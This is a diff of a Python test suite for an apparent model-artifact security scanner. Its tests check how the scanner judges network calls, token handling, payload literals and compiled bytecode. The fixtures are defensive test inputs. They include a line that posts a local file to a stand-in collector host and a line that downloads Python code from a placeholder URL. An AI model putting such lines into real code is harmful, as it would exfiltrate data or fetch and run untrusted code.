@@ -12,8 +12,11 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from builders import hf
-from modelcert.findings import ArtifactReport, Confidence, Finding, Severity, Verdict
+from modelcert.checks.remote_code import analyze_pyc
+from modelcert.errors import FormatError
+from modelcert.findings import ArtifactReport, Confidence, Finding, Location, Severity, Verdict
 from modelcert.formats.blob import BytesBlob
+from modelcert.formats.pycode import parse_python_bytes, relative_imports
 from modelcert.limits import Limits
 from modelcert.scan import scan_blob, scan_paths
 
@@ -347,7 +350,7 @@ def ship():
     requests.post("https://collector.modelcert-test.invalid", data=open("/tmp/e.json").read())
 """
     finding = only(review(source), "MC415")
-    assert finding.confidence is Confidence.MEDIUM and finding.verdict is Verdict.UNSAFE
+    assert finding.confidence is Confidence.MEDIUM and finding.verdict is Verdict.SUSPICIOUS
 
 
 def test_secret_variable_sent_over_http() -> None:
@@ -482,6 +485,27 @@ def test_oversized_source_is_refused() -> None:
     assert only(report, "MC902").verdict is Verdict.UNSCANNABLE
 
 
+def test_import_time_summary_lists_unusual_calls_only() -> None:
+    source = """import logging, torch
+from transformers import AutoConfig
+logger = logging.getLogger(__name__)
+def _phone_home():
+    return 1
+_phone_home()
+AutoConfig.register("toy", object)
+torch.set_default_dtype(torch.float32)
+"""
+    finding = only(review(source), "MC422")
+    assert finding.verdict is Verdict.CLEAN
+    assert [c["callee"] for c in finding.details["calls"]] == ["<local>._phone_home"]
+
+
+def test_relative_imports_follow_the_transformers_rules() -> None:
+    text = "from .configuration_x import XConfig\nimport .helpers\nfrom . import utils_a, utils_b as b\n"
+    text += "from ..outside import y\n    from .nested_mod import z\n"
+    assert relative_imports(text) == ["configuration_x", "helpers", "nested_mod", "utils_a", "utils_b"]
+
+
 # ---- properties -----------------------------------------------------------------------------------
 
 
@@ -549,3 +573,64 @@ def test_python_shaped_fragments_never_break_the_analyzer(parts: list[str]) -> N
 def test_mutated_modelling_file_never_breaks_the_analyzer(cut: int, junk: str) -> None:
     report = review(hf.MODELING_TOY[:cut] + junk + hf.MODELING_TOY[cut:])
     assert "MC903" not in {f.check_id for f in report.all_findings()}
+
+
+@pytest.mark.property
+@settings(max_examples=150, deadline=None)
+@given(st.binary(max_size=300))
+def test_python_reader_gives_a_tree_or_format_error(data: bytes) -> None:
+    try:
+        source = parse_python_bytes(data, "x.py")
+    except FormatError:
+        return
+    assert source.size == len(data)
+
+
+def test_urlretrieve_of_code_is_network_and_constants_are_not_callables() -> None:
+    source = (
+        "import subprocess, urllib.request\n"
+        'urllib.request.urlretrieve("https://x.invalid/k.py", "k.py")\n'
+        "print(subprocess.PIPE)\n"
+    )
+    report = review(source)
+    assert only(report, "MC414").severity is Severity.HIGH
+    assert "MC413" not in ids(report)
+
+
+def test_hub_token_given_to_the_hub_client_is_not_exfiltration() -> None:
+    source = (
+        "import os\nfrom huggingface_hub import hf_hub_download\n"
+        'p = hf_hub_download("org/extra", "head.safetensors", token=os.environ.get("HF_TOKEN"))\n'
+    )
+    report = review(source)
+    assert "MC415" not in ids(report) and "MC414" in ids(report)
+
+
+def test_non_latin_text_literal_is_not_a_payload() -> None:
+    prompt = "你是一个乐于助人的助手，请认真回答用户的问题。" * 20
+    assert "MC423" not in ids(review(f"SYSTEM_PROMPT = {prompt!r}\n"))
+
+
+def test_binary_bytes_literal_is_a_payload() -> None:
+    blob = bytes((i * 197 + 13) % 256 for i in range(1024))
+    assert only(review(f"BLOB = {blob!r}\n"), "MC423").details["encoding"] == "binary"
+
+
+class _Recorder:
+    """The part of AnalysisContext the bytecode analyzer uses."""
+
+    def __init__(self) -> None:
+        self.location = Location(path="__pycache__/modeling_x.cpython-311.pyc")
+        self.found: list[Finding] = []
+
+    def add(self, finding: Finding) -> None:
+        self.found.append(finding)
+
+
+def test_compiled_bytecode_is_reported_not_unmarshalled() -> None:
+    recorder = _Recorder()
+    header = b"\xa7\r\r\n" + b"\x00" * 12
+    analyze_pyc(BytesBlob(header + b"\xe3" + b"\x00" * 40, "x.pyc"), recorder)  # type: ignore[arg-type]
+    assert [f.check_id for f in recorder.found] == ["MC424"]
+    assert recorder.found[0].verdict is Verdict.SUSPICIOUS
+    assert "bytecode header" in recorder.found[0].message
